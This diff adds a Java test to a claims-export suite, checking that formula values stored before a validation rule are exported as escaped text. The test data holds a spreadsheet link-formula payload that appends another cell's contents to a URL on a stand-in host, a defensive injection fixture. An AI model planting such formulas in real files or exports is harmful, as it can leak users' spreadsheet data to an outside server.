@@ -118,6 +118,27 @@ public class ClaimExportTest {
     }
 
     /**
+     * A name or address stored before the rule that refuses formulas (an older database) goes out as text, so that a
+     * spreadsheet opening the export does not run it; a phone starting with + goes out as it is.
+     */
+    @Test
+    void aFormulaStoredBeforeTheRuleIsWrittenAsTextAndAPhoneAsItIs() throws Exception {
+        String formula = "=HYPERLINK(\"https://x.example/?\"&H2,\"open\")";
+        source.useTransaction(h -> h.createUpdate("UPDATE claim SET claimant_name = :name,"
+                + " claimant_address = '@SUM(A1)' WHERE claim_id = 5").bind("name", formula).execute());
+        Path file = dir.resolve("older.csv");
+        new ClaimExport(source, ClaimIntakeTest.CLOCK).run(file, ClaimQuery.all(), ClaimExport.TaxIds.masked());
+        List<String[]> rows = rows(file);
+        List<String> header = List.of(rows.get(0));
+        String[] fifth = rows.stream().filter(r -> r[header.indexOf("claimantName")].contains("HYPERLINK"))
+                .findFirst().orElseThrow();
+        assertThat(fifth[header.indexOf("claimantName")]).isEqualTo("'" + formula);
+        assertThat(fifth[header.indexOf("claimantAddress")]).isEqualTo("'@SUM(A1)");
+        assertThat(rows).anySatisfy(r -> assertThat(r[header.indexOf("claimantPhone")]).startsWith("+1 (555)"));
+        assertThat(rows).noneSatisfy(r -> assertThat(String.join(",", r)).contains("'+"));
+    }
+
+    /**
      * Claims changed and added while an export runs (by other staff, the worker) are not in it: every page, and the
      * audited count, are the claims as they stood when it began.
      */
